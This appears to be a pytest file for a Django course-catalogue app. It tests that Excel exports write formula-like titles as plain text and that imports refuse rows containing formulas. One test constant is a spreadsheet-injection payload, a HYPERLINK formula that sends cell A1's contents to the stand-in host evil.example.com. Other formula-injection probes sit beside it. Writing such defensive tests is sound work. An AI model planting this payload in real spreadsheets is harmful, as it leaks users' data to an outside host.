"""Exports cannot carry formulas, imports refuse them (issue 13, point 2)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from accounts.models import Role
from courses import excel, export
from courses.models import Course
from tests.factories import user_with_role

from .factories import CourseFactory
from .test_excel import row, xlsx

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example.com/?q="&A1, "点击查看")'


def _cells(content: bytes) -> list:
    return [cell for line in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in line]


@pytest.mark.parametrize("title", [HYPERLINK, "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_course_title_that_looks_like_a_formula_is_exported_as_text(title):
    CourseFactory(title=title, status=Course.Status.PUBLISHED)
    staff = user_with_role(Role.PROVINCE_STAFF)
    cells = _cells(export.export_catalogue(actor=staff, queryset=Course.objects.all()))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    written = next(c for c in cells if isinstance(c.value, str) and c.value.endswith(title.lstrip("\t\r")))
    assert written.data_type == "s" and written.quotePrefix


def test_a_formula_cell_in_an_upload_refuses_its_row_and_stores_nothing(base_admin, base):
    file = xlsx([row(title="正常课程"), row(title=HYPERLINK)])
    result = excel.import_courses(actor=base_admin, provider=base, file=file)
    assert result.created == 0 and result.bad_rows == 1
    error = result.errors[0]
    assert (error.row, error.column) == (3, "课程名称") and "A3" in error.reason and "公式" in error.reason
    assert not Course.objects.exists()


def test_a_computed_number_is_refused_too(base_admin, base):
    wb = Workbook()
    wb.active.append(excel.HEADERS)
    values = row()
    values[[f for f, _h in excel.COLUMNS].index("hours")] = "=1+1"
    wb.active.append(values)
    buffer = io.BytesIO()
    wb.save(buffer)
    from django.core.files.uploadedfile import SimpleUploadedFile

    result = excel.import_courses(actor=base_admin, provider=base, file=SimpleUploadedFile("c.xlsx", buffer.getvalue()))
    assert result.bad_rows == 1 and "公式" in result.errors[0].reason and result.errors[0].column == "学时"
    assert not Course.objects.exists()
